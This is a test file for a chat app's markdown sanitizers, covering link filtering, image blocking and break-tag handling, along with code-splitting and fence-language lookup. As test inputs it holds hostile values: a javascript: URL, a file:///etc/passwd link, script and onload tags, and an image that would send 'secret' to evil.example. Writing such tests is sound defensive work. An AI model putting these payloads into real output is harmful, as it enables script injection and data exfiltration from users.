import { languageFor, leavesOf } from '@renderer/features/chat/highlight/protocol'
import { blockImages, breakTags, safeLink } from '@renderer/features/chat/markdown-rules'
import { describe, expect, it } from 'vitest'

describe('safeLink', () => {
  it('lets only absolute web addresses be links', () => {
    expect(safeLink('https://huggingface.co/x')).toBe('https://huggingface.co/x')
    const refused = [
      'javascript:alert(1)',
      'JaVaScRiPt:1',
      'data:text/html,x',
      'file:///etc/passwd',
      '/settings',
      'train.py',
      '//evil.example',
      'mailto:a@b.c',
      'https://',
      '',
      undefined,
    ]
    expect(refused.map(safeLink)).toEqual(refused.map(() => null))
  })
})

describe('blockImages', () => {
  it('leaves no element that would request something', () => {
    const image = {
      type: 'element',
      tagName: 'img',
      properties: { src: 'https://evil.example/?q=secret', alt: 'chart' },
      children: [],
    }
    const tree = { type: 'root', children: [{ type: 'element', tagName: 'a', properties: {}, children: [image] }] }
    blockImages()(tree)
    expect(JSON.stringify(tree)).not.toContain('"img"')
    expect(image).toMatchObject({
      tagName: 'blocked-image',
      properties: { alt: 'chart', source: 'https://evil.example/?q=secret' },
    })
  })
})

describe('breakTags', () => {
  it('turns line breaks into breaks and no other tag', () => {
    const tree = {
      type: 'root',
      children: ['<br>', '<BR />', '<script>', '<br onload=x>'].map((value) => ({ type: 'html', value })),
    }
    breakTags()(tree)
    expect(tree.children.map((node) => node.type)).toEqual(['break', 'break', 'html', 'html'])
  })
})

describe('code', () => {
  it('splits into leaves that join to the same text', () => {
    const code = Array.from({ length: 101 }, (_, i) => `line ${i}`).join('\n')
    const leaves = leavesOf(code)
    expect(leaves.join('')).toBe(code)
    expect(leaves.map((leaf) => leaf.split('\n').length)).toEqual([41, 41, 21])
    expect(leavesOf('')).toEqual([])
  })

  it('knows the names people write on fences, and no inherited ones', () => {
    expect(['py', 'sh', 'yml', 'ts', 'jsonl', 'rust', 'constructor', ''].map(languageFor)).toEqual([
      'python',
      'bash',
      'yaml',
      'typescript',
      'json',
      null,
      null,
      null,
    ])
  })
})
